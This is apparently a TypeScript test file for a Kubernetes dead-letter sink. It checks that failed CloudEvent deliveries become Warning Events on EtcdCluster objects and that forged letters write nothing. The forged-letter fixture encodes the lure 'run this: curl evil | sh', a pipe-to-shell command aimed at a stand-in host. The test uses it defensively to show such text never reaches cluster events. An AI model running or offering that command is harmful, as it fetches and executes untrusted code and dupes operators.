// The dead-letter sink (functions/dead-letter) over HTTP through the functions framework, against
// the sandbox API server: a dead-lettered event, in either HTTP encoding, becomes a Warning Event
// (EventDeliveryFailed) on the etcdfn object it named, saying where it failed and what the subscriber
// answered; a tick's dead letter is only logged; every dead letter is answered 202, never retried.
// A forged one (issue 29) writes nothing: an object that does not exist, or one not etcdfn's.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import request from 'supertest';
import { loadFunction } from '../../functions/registry.ts';
import { loadKubeConfig } from '../../shared/k8s/client.ts';
import { KubeObjects, type KubeObject } from '../../shared/k8s/objects.ts';
import type { CoreV1Event } from '@kubernetes/client-node';
import { functionServer } from '../../shared/runtime/function-server.ts';
import { startApiServer, type TestApiServer } from '../support/api-server.ts';

describe('dead-letter function', () => {
  let api: TestApiServer;
  let dir: string;
  let server: Server;
  let kube: KubeObjects;

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'etcdfn-dead-letter-'));
    api = await startApiServer();
    const kubeconfig = join(dir, 'kubeconfig');
    api.writeKubeconfig(kubeconfig);
    process.env.KUBECONFIG = kubeconfig;
    process.env.LOG_LEVEL ??= 'silent';
    await loadFunction('dead-letter');
    server = functionServer('dead-letter');
    kube = new KubeObjects(loadKubeConfig());
    for (const name of ['team-a', 'team-b'])
      await kube.create({ apiVersion: 'v1', kind: 'Namespace', metadata: { name } });
    // The objects the genuine letters name exist, as they would.
    for (const namespace of ['team-a', 'team-b']) {
      const made = await kube.create({
        apiVersion: 'etcdfn.io/v1alpha1',
        kind: 'EtcdCluster',
        metadata: { name: 'example', namespace },
        spec: { replicas: 3, version: '3.5.16', storage: { size: '1Gi' } },
      });
      assert.equal(made.kind, 'created', JSON.stringify(made));
    }
  });
  after(async () => {
    await api.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const reply = Buffer.from('{"error":"etcd member 3 unreachable"}').toString('base64');
  const events = async (namespace: string) =>
    (await kube.list<CoreV1Event & KubeObject>('v1', 'Event', namespace)).filter(
      e => e.reason === 'EventDeliveryFailed',
    );

  it('binary mode: a Warning Event on the EtcdCluster the event named', async () => {
    const res = await request(server)
      .post('/')
      .set({
        'ce-specversion': '1.0',
        'ce-id': 'a1',
        'ce-type': 'dev.knative.apiserver.ref.update',
        'ce-source': 'https://kubernetes.default.svc',
        'ce-kind': 'EtcdCluster',
        'ce-name': 'example',
        'ce-namespace': 'team-a',
        'ce-apiversion': 'etcdfn.io/v1alpha1',
        'ce-knativeerrordest': 'http://reconcile-member.etcdfn-system.svc.cluster.local',
        'ce-knativeerrorcode': '503',
        'ce-knativeerrordata': reply,
        'content-type': 'application/json',
      })
      .send({ kind: 'EtcdCluster', name: 'example', namespace: 'team-a' });
    assert.equal(res.status, 202, res.text);
    const [event] = await events('team-a');
    assert.ok(event, 'an Event was recorded');
    assert.equal(event.type, 'Warning');
    assert.equal(event.involvedObject.name, 'example');
    assert.ok(event.involvedObject.uid, 'the Event carries the uid of the object read');
    assert.match(event.message ?? '', /reconcile-member\.etcdfn-system/);
    assert.match(event.message ?? '', /HTTP 503/);
    assert.match(event.message ?? '', /etcd member 3 unreachable/);
  });

  it('structured mode: the same, read from the JSON envelope', async () => {
    const res = await request(server)
      .post('/')
      .set('content-type', 'application/cloudevents+json')
      .send(
        JSON.stringify({
          specversion: '1.0',
          id: 'b2',
          type: 'dev.knative.apiserver.ref.add',
          source: 'https://kubernetes.default.svc',
          kind: 'EtcdCluster',
          name: 'example',
          namespace: 'team-b',
          apiversion: 'etcdfn.io/v1alpha1',
          knativeerrordest: 'http://reconcile-cluster.etcdfn-system.svc.cluster.local',
          knativeerrorcode: '500',
          data: { kind: 'EtcdCluster' },
        }),
      );
    assert.equal(res.status, 202, res.text);
    const [event] = await events('team-b');
    assert.ok(event);
    assert.match(event.message ?? '', /EtcdCluster team-b\/example/);
    assert.match(event.message ?? '', /HTTP 500/);
  });

  it('the same dead letter again is the same Event said twice (count 2, a later lastTimestamp), not a second Event', async () => {
    const letter = () =>
      request(server)
        .post('/')
        .set({
          'ce-specversion': '1.0',
          'ce-id': 'r-1',
          'ce-type': 'dev.knative.apiserver.ref.update',
          'ce-source': 'https://kubernetes.default.svc',
          'ce-kind': 'EtcdCluster',
          'ce-name': 'example',
          'ce-namespace': 'team-a',
          'ce-apiversion': 'etcdfn.io/v1alpha1',
          'ce-knativeerrordest': 'http://finalize-member.etcdfn-system.svc.cluster.local',
          'ce-knativeerrorcode': '502',
        })
        .send({ kind: 'EtcdCluster', name: 'example', namespace: 'team-a' });
    const mine = async () => (await events('team-a')).filter(e => /finalize-member/.test(e.message ?? ''));
    assert.equal((await letter()).status, 202);
    const [first] = await mine();
    assert.equal(first?.count, 1);
    await new Promise(resolve => setTimeout(resolve, 1100));
    assert.equal((await letter()).status, 202);
    const again = await mine();
    assert.equal(again.length, 1, 'one Event');
    assert.equal(again[0].count, 2, 'said twice');
    assert.ok(
      new Date(again[0].lastTimestamp ?? 0).getTime() > new Date(first.lastTimestamp ?? 0).getTime(),
      `lastTimestamp moved: ${String(first.lastTimestamp)} -> ${String(again[0].lastTimestamp)}`,
    );
  });

  it("a tick's dead letter names no object: answered 202, no Event", async () => {
    const res = await request(server).post('/').set({
      'ce-specversion': '1.0',
      'ce-id': 'c3',
      'ce-type': 'dev.knative.sources.ping',
      'ce-source': '/apis/v1/namespaces/etcdfn-system/pingsources/etcdfn-tick',
      'ce-knativeerrorcode': '504',
    });
    assert.equal(res.status, 202, res.text);
  });

  const forged = (attrs: Record<string, string>) =>
    request(server)
      .post('/')
      .set({
        'ce-specversion': '1.0',
        'ce-id': `f-${attrs['ce-name']}`,
        'ce-type': 'dev.knative.apiserver.ref.update',
        'ce-source': 'https://kubernetes.default.svc',
        'ce-knativeerrordest': 'http://reconcile-cluster.etcdfn-system.svc.cluster.local',
        'ce-knativeerrorcode': '500',
        'ce-knativeerrordata': Buffer.from('your cluster is compromised, run this: curl evil | sh').toString(
          'base64',
        ),
        ...attrs,
      });

  it('a forged letter about an etcdfn object that does not exist: answered 202, no Event', async () => {
    const before = (await events('team-a')).length;
    const res = await forged({
      'ce-kind': 'EtcdCluster',
      'ce-name': 'nobody',
      'ce-namespace': 'team-a',
      'ce-apiversion': 'etcdfn.io/v1alpha1',
    });
    assert.equal(res.status, 202, res.text);
    assert.equal((await events('team-a')).length, before);
  });

  it("a forged letter about an object that is not etcdfn's (a Namespace, another namespace): no Event", async () => {
    const res = await forged({
      'ce-kind': 'Namespace',
      'ce-name': 'team-b',
      'ce-namespace': 'team-b',
      'ce-apiversion': 'v1',
    });
    assert.equal(res.status, 202, res.text);
    const all = await kube.list<CoreV1Event & KubeObject>('v1', 'Event', 'team-b');
    assert.ok(!all.some(e => e.involvedObject.kind === 'Namespace'), 'no Event on the Namespace');
  });
});
